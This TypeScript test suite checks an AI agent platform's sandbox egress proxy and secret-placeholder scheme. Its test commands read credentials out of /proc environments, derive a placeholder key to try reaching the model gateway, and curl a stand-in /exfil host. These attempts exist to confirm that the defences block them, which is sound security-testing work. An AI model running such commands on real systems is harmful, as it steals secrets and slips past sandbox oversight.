import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeGlobalId } from '../ids/global-id.ts';
import type { GraphqlClient } from '../../test/graphql-client.ts';
import { startTestPlatform, type TestPlatform } from '../../test/platform.ts';
import { Subscriber, type LiveEvent } from '../../test/subscriber.ts';
import { startTestWorker, type TestWorker } from '../../test/worker.ts';
import { CertificateAuthority, createAuthority } from './authority.ts';
import { recordBlocked } from './blocked.ts';
import { commandTokenFor } from './placeholders.ts';

/**
 * Attacks through the public API: the offline mock's `/tool CMD` makes the chat agent
 * run CMD in its sandbox. Secrets must stay outside, reach only their hosts, and never
 * come back into the transcript.
 */

const SECRET = 'sk-live-4f9a8b7c6d5e4f3a2b1c';
const GATEWAY_KEY = 'test-gateway-key';

type Received = { url: string; authorization: string | undefined };

/**
 * An echo server that reflects the Authorization header it received and the URL: in a
 * response header and in the body, which `/gzip` compresses whatever the client asked
 * for and `/chunked` sends a few bytes at a time.
 */
async function echo(secure?: CertificateAuthority): Promise<{ port: number; received: Received[]; close(): Promise<void> }> {
  const received: Received[] = [];
  const handler: http.RequestListener = (req, res) => {
    received.push({ url: req.url!, authorization: req.headers.authorization });
    const body = Buffer.from(`echo: ${req.headers.authorization ?? ''} ${req.url}\n`);
    res.setHeader('x-echo-authorization', req.headers.authorization ?? '');
    if (req.url!.startsWith('/gzip')) {
      res.writeHead(200, { 'content-encoding': 'gzip' });
      return res.end(gzipSync(body));
    }
    if (req.url!.startsWith('/chunked')) {
      const pieces = Array.from({ length: Math.ceil(body.length / 3) }, (_, i) => body.subarray(i * 3, i * 3 + 3));
      const next = () => (pieces.length > 0 ? res.write(pieces.shift(), () => setImmediate(next)) : res.end());
      return next();
    }
    res.end(body);
  };
  const server = secure ? https.createServer(secure.issue('127.0.0.1'), handler) : http.createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, received, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

let t: TestPlatform;
let worker: TestWorker;
let client: GraphqlClient;
let key: string;
let agentId: string;
let plain: Awaited<ReturnType<typeof echo>>;
let secure: Awaited<ReturnType<typeof echo>>;
let unlisted: Awaited<ReturnType<typeof echo>>;
const subscribers: Subscriber[] = [];

beforeAll(async () => {
  const upstreamCa = createAuthority();
  plain = await echo();
  secure = await echo(new CertificateAuthority(upstreamCa.certPem, upstreamCa.keyPem));
  unlisted = await echo();
  // The echo servers are on loopback: the operator lets sandboxes reach it.
  const env = { PADDOCK_EGRESS_PRIVATE_ALLOW: '127.0.0.1/32' };
  t = await startTestPlatform(env);
  // The mock model demands the real gateway key: turns complete only if the proxy swaps it in.
  worker = await startTestWorker(t, env, { apiKey: GATEWAY_KEY }, { upstreamCa: [upstreamCa.certPem] });
  ({ client, key } = await t.newTeam());
  agentId = (
    await client.ok<{ createAgent: { id: string } }>(`mutation($in: CreateAgentInput!) { createAgent(input: $in) { id } }`, {
      in: {
        name: 'egress-attack',
        harness: 'chat',
        egressAllow: [`127.0.0.1:${plain.port}`, `127.0.0.1:${secure.port}`, `127.0.0.1:${unlisted.port}`],
        env: [{ name: 'API_TOKEN', value: SECRET, hosts: [`127.0.0.1:${plain.port}`, `127.0.0.1:${secure.port}`] }],
      },
    })
  ).createAgent.id;
});

afterAll(async () => {
  await Promise.all(subscribers.map((s) => s.close()));
  await worker?.close();
  await t?.close();
  await Promise.all([plain?.close(), secure?.close(), unlisted?.close()]);
});

async function turn(command: string): Promise<{ sessionId: string; events: LiveEvent[]; output: string }> {
  const sessionId = (await client.ok<{ createSession: { id: string } }>(`mutation($a: ID!) { createSession(input: { agentId: $a }) { id } }`, { a: agentId }))
    .createSession.id;
  const live = new Subscriber(t.url, key);
  subscribers.push(live);
  live.subscribe(sessionId);
  await client.ok(`mutation($s: ID!, $c: String!) { sendMessage(input: { sessionId: $s, content: $c }) { id } }`, { s: sessionId, c: `/tool ${command}` });
  // A hang detector: the first turn starts a sandbox, which takes long on a busy machine.
  await live.waitFor((events) => events.some((e) => e.type === 'turn.completed' || e.type === 'turn.failed'), 150_000);
  const failed = live.events.find((e) => e.type === 'turn.failed');
  if (failed) throw new Error(`the turn failed: ${JSON.stringify(failed.payload)}`);
  const result = live.events.find((e) => e.type === 'tool.result');
  return { sessionId, events: live.events, output: String(result?.payload?.output ?? '') };
}

/** Every stored trace of a session: events, message contents and tool calls. */
async function transcript(sessionId: string): Promise<string> {
  const id = decodeGlobalId(sessionId).id;
  const { db } = t.platform.services;
  const [events, messages] = await Promise.all([db.sessionEvent.findMany({ where: { sessionId: id } }), db.message.findMany({ where: { sessionId: id } })]);
  return JSON.stringify({ events, messages });
}

describe('credentials stay out of the sandbox', { timeout: 180_000 }, () => {
  it('holds placeholders, never the secret or the gateway key, in its environment', async () => {
    const { output } = await turn(
      `env; echo ---; cat /proc/self/environ | tr '\\0' '\\n'; echo ---; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -e '${GATEWAY_KEY}' -e '${SECRET}' || true`,
    );
    expect(output).toMatch(/^API_TOKEN=paddock-secret-[A-Za-z0-9_-]{32}$/m);
    expect(output).not.toContain(SECRET);
    expect(output).not.toContain(GATEWAY_KEY);
    expect(output).not.toContain('[redacted:');
    // No process in the sandbox has the real values in its environment.
    expect(output.trim().split('\n').at(-1)).toBe('0');
  });

  it("sends the real value to the secret's host over HTTP and HTTPS, and gives the sandbox the placeholder back when a server echoes it", async () => {
    const plainBefore = plain.received.length;
    const secureBefore = secure.received.length;
    const urls = [
      `http://127.0.0.1:${plain.port}/plain`,
      `http://127.0.0.1:${plain.port}/chunked`,
      `http://127.0.0.1:${plain.port}/gzip`,
      `https://127.0.0.1:${secure.port}/secure`,
      `https://127.0.0.1:${secure.port}/gzip`,
      `https://127.0.0.1:${secure.port}/chunked`,
    ];
    // Inside the sandbox: each echo (headers and body) must equal what the command sent, placeholder and all.
    const { sessionId, output } = await turn(
      `echo "placeholder=$API_TOKEN"; for url in ${urls.join(' ')}; do ` +
        `got=$(curl -sS --compressed -D - -H "Authorization: Bearer $API_TOKEN" "$url?key=$API_TOKEN" | tr -d '\r'); ` +
        `echo "$got"; ` +
        `if echo "$got" | grep -qx "echo: Bearer $API_TOKEN /[a-z]*?key=$API_TOKEN" && echo "$got" | grep -qix "x-echo-authorization: Bearer $API_TOKEN"; then echo "placeholder-back $url"; fi; done`,
    );
    const placeholder = /^placeholder=(paddock-secret-\S+)$/m.exec(output)![1]!;
    // The servers received the real value.
    expect(plain.received.slice(plainBefore)).toEqual(
      ['plain', 'chunked', 'gzip'].map((p) => ({ url: `/${p}?key=${SECRET}`, authorization: `Bearer ${SECRET}` })),
    );
    expect(secure.received.slice(secureBefore)).toEqual(
      ['secure', 'gzip', 'chunked'].map((p) => ({ url: `/${p}?key=${SECRET}`, authorization: `Bearer ${SECRET}` })),
    );
    // The sandbox only ever saw the placeholder: nothing needed redacting on the way out.
    for (const url of urls) expect(output).toContain(`placeholder-back ${url}`);
    expect(output).toContain(`echo: Bearer ${placeholder} /gzip?key=${placeholder}`);
    expect(output).not.toContain('[redacted:');
    expect(output).not.toMatch(/content-encoding/i);
    const stored = await transcript(sessionId);
    expect(stored).not.toContain(SECRET);
    expect(stored).not.toContain('[redacted:');
  });

  it('swaps Basic credentials back whole when a server reflects them', async () => {
    const { output } = await turn(
      `sent=$(printf 'x-access-token:%s' "$API_TOKEN" | base64 -w0); ` +
        `got=$(curl -sS -H "Authorization: Basic $sent" "http://127.0.0.1:${plain.port}/basic"); ` +
        `echo "$got"; [ "$got" = "echo: Basic $sent /basic" ] && echo basic-back`,
    );
    expect(Buffer.from(plain.received.at(-1)!.authorization!.slice(6), 'base64').toString()).toBe(`x-access-token:${SECRET}`);
    expect(output).toContain('basic-back');
  });

  it("gives the agent's commands no way to the model gateway, whatever they read in the sandbox", async () => {
    const gateway = worker.worker.sandboxes.settings.gateway.baseUrl;
    const gatewayPort = Number(new URL(gateway).port);
    const { sessionId, events, output } = await turn(
      // The gateway placeholder as it was once derivable from the proxy credentials commands hold, and every placeholder in reach.
      `token=$(node -e 'process.stdout.write(decodeURIComponent(new URL(process.env.HTTP_PROXY).password))'); ` +
        `derived=paddock-secret-$(node -e 'process.stdout.write(require("crypto").createHmac("sha256", process.argv[1]).update("LITELLM_API_KEY").digest("base64url").slice(0, 32))' "$token"); ` +
        `for key in "$derived" $(env | grep -o 'paddock-secret-[A-Za-z0-9_-]*' | sort -u); do for path in /chat/completions /models /key/generate; do ` +
        `echo "gateway $path $(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $key" -H 'content-type: application/json' ` +
        `-d '{"model":"mock","messages":[{"role":"user","content":"hi"}]}' "${gateway}$path")"; done; done; ` +
        `echo credentials; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -o 'paddock[:][^@]*@' | sort -u`,
    );
    const attempts = output.split('\n').filter((l) => l.startsWith('gateway '));
    expect(attempts).toHaveLength(6);
    for (const attempt of attempts) expect(attempt).toMatch(/ 403$/);
    expect(events.some((e) => e.type === 'egress.blocked' && e.payload?.port === gatewayPort)).toBe(true);
    // The only proxy credentials in reach are the commands' own; the runtime's token is in no process environment.
    const sandbox = await t.platform.services.db.sandbox.findUniqueOrThrow({ where: { sessionId: decodeGlobalId(sessionId).id } });
    const runtimeToken = t.platform.services.secrets.open(sandbox.egressTokenCipher!);
    expect(output.split('credentials\n')[1]!.trim().split('\n')).toEqual([`paddock:${commandTokenFor(runtimeToken)}@`]);
    expect(output).not.toContain(runtimeToken);
  });

  it('keeps the placeholder on allowed hosts the secret is not for', async () => {
    await turn(`curl -sS "http://127.0.0.1:${unlisted.port}/?key=$API_TOKEN"`);
    expect(unlisted.received[0]!.url).toMatch(/^\/\?key=paddock-secret-/);
  });

  it('refuses hosts outside the allow-list and records egress.blocked for subscribers and the log', async () => {
    const { sessionId, events, output } = await turn(
      `curl -sS -o /dev/null -w '%{http_code}\\n' http://203.0.113.9:8080/exfil; curl -sS -o /dev/null -w '%{http_code}\\n' https://example.com/ || echo tunnel-refused`,
    );
    expect(output).toMatch(/^403$/m);
    expect(output).toContain('tunnel-refused');
    const blocked = events.filter((e) => e.type === 'egress.blocked').map((e) => e.payload);
    expect(blocked).toEqual([
      { host: '203.0.113.9', port: 8080, reason: "not in the agent's egress allow-list" },
      { host: 'example.com', port: 443, reason: "not in the agent's egress allow-list" },
    ]);
    const stored = await t.platform.services.db.sessionEvent.findMany({ where: { sessionId: decodeGlobalId(sessionId).id, type: 'egress.blocked' } });
    expect(stored.map((e) => e.payload)).toEqual(blocked);
    // Each refusal is on the audit log of the session's team, the session as its target.
    const audited = async () =>
      (
        await t.admin.ok<{ auditEvents: { edges: { node: { outcome: string; detail: unknown } }[] } }>(
          `query($s: ID!) { auditEvents(filter: { action: "egress.blocked", targetId: $s }) { edges { node { outcome detail } } } }`,
          { s: sessionId },
        )
      ).auditEvents.edges.map((e) => e.node);
    for (let i = 0; i < 200 && (await audited()).length < 2; i++) await new Promise((resolve) => setTimeout(resolve, 50));
    expect((await audited()).reverse()).toEqual(blocked.map((detail) => ({ outcome: 'DENIED', detail })));
  });
});

describe('refusals between turns', () => {
  it('are appended to the log and published like any event', async () => {
    const sessionId = (await client.ok<{ createSession: { id: string } }>(`mutation($a: ID!) { createSession(input: { agentId: $a }) { id } }`, { a: agentId }))
      .createSession.id;
    const live = new Subscriber(t.url, key);
    subscribers.push(live);
    live.subscribe(sessionId);
    await live.waitForType('session.status');
    const { db, bus } = t.platform.services;
    await recordBlocked(db, bus, { sessionId: decodeGlobalId(sessionId).id, host: 'late.example', port: 443, reason: "not in the agent's egress allow-list" });
    await live.waitForType('egress.blocked');
    const event = live.events.find((e) => e.type === 'egress.blocked')!;
    expect(event.payload).toEqual({ host: 'late.example', port: 443, reason: "not in the agent's egress allow-list" });
    expect(event.seq).toBe(live.events.length);
  });
});

describe('egress rules are validated', () => {
  it('refuses private, loopback, link-local, metadata and catch-all entries not allowed by the operator', async () => {
    for (const entry of ['0.0.0.0/0', '169.254.169.254', '10.0.0.0/8', '127.0.0.2', 'localhost']) {
      const res = await client.request(`mutation($in: CreateAgentInput!) { createAgent(input: $in) { id } }`, {
        in: { name: 'bad-egress', harness: 'chat', egressAllow: [entry] },
      });
      expect(res.errors?.[0]?.extensions?.code, entry).toBe('BAD_USER_INPUT');
      expect(res.errors?.[0]?.message, entry).toMatch(/PADDOCK_EGRESS_PRIVATE_ALLOW/);
    }
    const secretHosts = await client.request(`mutation($in: CreateAgentInput!) { createAgent(input: $in) { id } }`, {
      in: { name: 'bad-hosts', harness: 'chat', env: [{ name: 'X', value: 'y', hosts: ['169.254.169.254'] }] },
    });
    expect(secretHosts.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(secretHosts.errors?.[0]?.extensions?.field).toBe('env.0.hosts.0');
  });
});
